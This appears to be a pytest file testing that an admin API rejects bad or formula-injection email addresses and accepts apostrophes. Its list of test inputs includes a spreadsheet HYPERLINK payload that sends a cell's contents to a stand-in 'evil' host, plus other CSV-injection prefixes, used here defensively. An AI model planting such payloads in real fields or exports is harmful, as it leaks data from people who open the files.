"""The API refuses, by the one email rule (domain/rules.py), the addresses the CSV import refuses."""

from __future__ import annotations

import pytest

from tests.conftest import Api, error_of

ATTACKS = [
    '=HYPERLINK("http://evil/?"&C3,"Open")&"@x.io',
    "=1+1@x.io",
    "+x@x.io",
    "-x@x.io",
    "@x@x.io",
    "a@b",
    "a@@b.io",
    "<a@x.io>",
    "a,b@x.io",
]


@pytest.mark.parametrize("email", ATTACKS)
def test_creating_a_user_with_such_an_email_answers_400_naming_email(api: Api, email: str) -> None:
    token = api.admin_token("acme")
    body = {"email": email, "first_name": "Eve", "last_name": "Il", "send_invite": False}
    answer = api.call("POST", "/admin/users", body, token=token)
    assert error_of(answer) == (400, "invalid_email")
    assert answer.json_body["error"]["message"].startswith("email:")


def test_the_platform_refuses_such_a_first_admin(api: Api) -> None:
    answer = api.provision(
        "acme",
        admin={"email": "=1+1@x.io", "first_name": "A", "last_name": "B", "password": "long enough pass 1"},
    )
    assert error_of(answer) == (400, "invalid_email")
    assert answer.json_body["error"]["message"].startswith("admin.email:")


def test_an_apostrophe_is_fine(api: Api) -> None:
    token = api.admin_token("acme")
    body = {
        "email": "O'Brien@acme.example",
        "first_name": "Pat",
        "last_name": "O'Brien",
        "send_invite": False,
    }
    answer = api.call("POST", "/admin/users", body, token=token)
    assert answer.status_code == 201, answer.json_body
    assert answer.json_body["email"] == "o'brien@acme.example"
